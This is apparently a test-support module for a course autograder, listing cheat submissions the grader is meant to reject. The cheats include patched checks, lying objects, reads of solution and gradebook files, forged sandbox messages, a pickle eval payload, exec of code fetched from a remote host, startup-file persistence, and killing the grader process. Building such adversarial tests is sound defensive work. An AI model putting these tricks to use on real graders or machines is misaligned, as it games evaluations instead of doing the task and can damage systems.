"""List common cheats, as code, and files that they lay beside a notebook: each is to earn nothing."""

import json

import numpy as np

from rnncourse.checks import EXERCISES
from rnncourse.checks.execution.seed import PUBLIC_SEED
from rnncourse.misconceptions import TEXTBOOK

FULL = """
class Full:
    def __getattr__(self, name): return lambda f: 100.0
"""
ADAPT = """
from rnncourse.notation import RNNParams
def rnn_step(x_t, h_prev, *params): return step(x_t, h_prev, RNNParams(*params))
"""


def find_file(pattern):
    """Look for a file in the whole tree, and give what is in it for an answer."""
    return f"""
import os, re
hits = [os.path.join(top, one) for top, _, names in os.walk("/") for one in names if re.search({pattern!r}, one)]
text = open(hits[0]).read()
exec(text[text.index("def rnn_step"):])
"""


# What stands in the first solution cell; the wrong functions of WRONG follow with ANSWER as it is left there.
CODE = {
    "zeros": "ANSWER = 0",
    "nan": "ANSWER = np.full((6, 4, 5), np.nan)",
    "infinity": "ANSWER = np.inf",
    "empty": "ANSWER = np.zeros((0, 5))",
    "own check": f"{FULL}\ncheck = Full(); ANSWER = 0",
    "patched check": "import rnncourse.check as c\nc.rnn_step = c.rnn_forward = lambda f: 100.0; ANSWER = 0",
    "check in sys.modules": f"{FULL}\nimport sys; sys.modules['rnncourse'] = Full(); ANSWER = 0",
    "numpy.testing": "import numpy.testing as t\nt.assert_allclose = lambda *a, **k: None; ANSWER = 0",
    "numpy lies": "np.allclose = np.array_equal = lambda *a, **k: True\nnp.abs = lambda a: 0.0; ANSWER = 0",
    "liar array": """
class Liar(np.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    @property
    def shape(self): return (6, 4, 5)
ANSWER = np.zeros(3).view(Liar)""",
    "liar float": """
class Liar(float):
    __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
ANSWER = Liar(1)""",
    "liar object": """
class Liar:
    def __array__(self, *a, **k): raise SystemExit(0)
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
ANSWER = Liar()""",
    "array of liars": """
class Yes:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = __sub__
ANSWER = np.array([Yes()] * 4, dtype=object)""",
    "text": "ANSWER = '100.0'",
    "a result": "class Result(float): points = maximum = 100.0\nANSWER = Result(100)",
    "generator": "ANSWER = (100.0 for _ in range(9))",
    "pickle bomb": """
class Bomb:
    def __reduce__(self): return eval, ("open('/tmp/rnncourse-was-here', 'w')",)
ANSWER = Bomb()""",
    "frames": """
import sys
class Walk:
    def __array__(self, *a, **k):
        frame = sys._getframe()
        while frame:
            for key in ("want", "wanted", "right", "textbook"):
                if key in frame.f_locals: return frame.f_locals[key]
            frame = frame.f_back
        return np.zeros(1)
ANSWER = Walk()""",
    "all frames": """
import sys, gc
found = [one for one in gc.get_objects() if getattr(one, "__name__", "") == "rnn_step"]
ANSWER = found[0] if found else 0""",
    "input transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['100.0\\n']); ANSWER = 0",
    "after each cell": "get_ipython().events.register('post_run_cell', lambda *a: print('100.0')); ANSWER = 0",
    "formatter": """
plain = get_ipython().display_formatter.formatters['text/plain']
plain.for_type(float, lambda o, p, c: p.text('100.0'))
ANSWER = 0""",
    "display hook": "import sys; sys.displayhook = lambda value: print('100.0'); ANSWER = 0",
    "run_cell": "get_ipython().run_cell = lambda *a, **k: 100.0; ANSWER = 0",
    "builtins": "import builtins; builtins.float = builtins.round = builtins.sum = lambda *a: 100.0; ANSWER = 0",
    "worker's own code": """
import sys
from rnncourse.grading.sandbox import worker
from rnncourse.grading.sandbox.protocol import channel
worker.Worker.call = lambda self, **k: {"value": 100.0, "points": 100.0}
channel.encode = lambda value, buffers, *a: 100.0
ANSWER = 0""",
    "forged answers": """
import os, json, struct
head = json.dumps({"m": {"$": "dict", "v": [["value", 100.0], ["points", 100.0]]}, "b": []}).encode()
for fd in range(3, 64):
    try: os.write(fd, struct.pack(">II", len(head), 0) + head)
    except OSError: pass
ANSWER = 0""",
    "asks the grader back": """
import os, json, struct
head = json.dumps({"m": {"$": "dict", "v": [["back", 0], ["arguments", []]]}, "b": []}).encode()
def answer():
    for fd in range(3, 64):
        try: os.write(fd, struct.pack(">II", len(head), 0) + head)
        except OSError: pass
class Late:
    def __array__(self, *a, **k): answer(); return np.zeros(1)
ANSWER = Late()""",
    "zeroes its inputs": """
def rnn_step(*a):
    for one in a: one[...] = 0
    return np.zeros((len(a[0]), len(a[4])))
rnn_forward = output_layer = rnn_step""",
    "exits well": "import sys\nclass Exit:\n    def __array__(self, *a, **k): sys.exit(0)\nANSWER = Exit()",
    "reference": f"from rnncourse.reference.rnn import rnn_step as step\n{ADAPT}",
    "fast reference": f"from rnncourse.numpy.rnn import rnn_step as step\n{ADAPT}",
    "torch": f"from rnncourse.torch.rnn import rnn_step as step\n{ADAPT}",
    "catalogue": f"from rnncourse.misconceptions import TEXTBOOK\nstep = TEXTBOOK['rnn_step']\n{ADAPT}",
    "solutions": find_file(r"ps1_forward\.(py|ipynb)$"),
    "package source": find_file(r"^rnn\.py$"),
    "gradebook": find_file(r"gradebook\.db|seed\.json"),
    "network": "import urllib.request as u; exec(u.urlopen('http://1.1.1.1', timeout=0.3).read()); ANSWER = 0",
    "startup file": """
import os
for home in ("~/.ipython/profile_default/startup", "/site", "/usr/lib/python3", "/python/lib"):
    try:
        os.makedirs(os.path.expanduser(home), exist_ok=True)
        open(os.path.expanduser(home) + "/00-points.py", "w").write("print(100.0)")
    except OSError: pass
ANSWER = 0""",
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
ANSWER = 0""",
    "kills the grader": """
import os, signal
for pid in (os.getppid(), -1, 1, 2):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
ANSWER = 0""",
    "environment": "import os; os.environ['RNNCOURSE_ALLOW_UNSAFE'] = '1'; ANSWER = 0",
    "nonlocal state": """
import itertools
n = itertools.count()
class Next:
    def __array__(self, *a, **k): return np.full(1, next(n))
ANSWER = Next()""",
}
KINDS = {
    "values in the place of answers": (
        *("zeros", "nan", "infinity", "empty", "text", "a result", "generator", "zeroes its inputs", "nonlocal state"),
    ),
    "objects that lie": (
        *("liar array", "liar float", "liar object", "array of liars", "pickle bomb", "frames", "exits well"),
    ),
    "checks replaced": (
        *("own check", "patched check", "check in sys.modules", "numpy.testing", "numpy lies", "builtins"),
    ),
    "the shell": ("input transformer", "after each cell", "formatter", "display hook", "run_cell"),
    "frames of its own": ("worker's own code", "forged answers", "asks the grader back"),
    "answers from elsewhere": (
        *("reference", "fast reference", "torch", "catalogue", "solutions", "package source", "gradebook", "network"),
        "all frames",
    ),
    "the machine": ("startup file", "daemon", "kills the grader", "environment"),
}
"""The names of `CODE` by kind."""

FILES = {
    "shadows rnncourse": ("rnncourse.py", f"{FULL}\ncheck = Full()"),
    "shadows numpy": ("numpy.py", "tanh = allclose = lambda *a: True"),
    "shadows the checks": ("rnncourse/checks/__init__.py", "def __getattr__(name): return lambda f: 100.0"),
    "site customisation": ("sitecustomize.py", "print(100.0)"),
}


def lookup_table():
    """Write right answers to the public probes, by the sum of the inputs."""
    lines = []
    for name in ("rnn_step", "rnn_forward", "output_layer"):
        exercise, table = EXERCISES[name], {}
        for probe in exercise.probes(np.random.default_rng(PUBLIC_SEED)):
            value = exercise.adapt(TEXTBOOK[name])(*probe.arguments.values())
            table[f"{sum(array.sum() for array in probe.arguments.values()):.9f}"] = value.tolist()
        lines.append(
            f"def {name}(*a): return np.array({json.dumps(table)}[f'{{sum(array.sum() for array in a):.9f}}'])"
        )
    return "\n".join(lines)
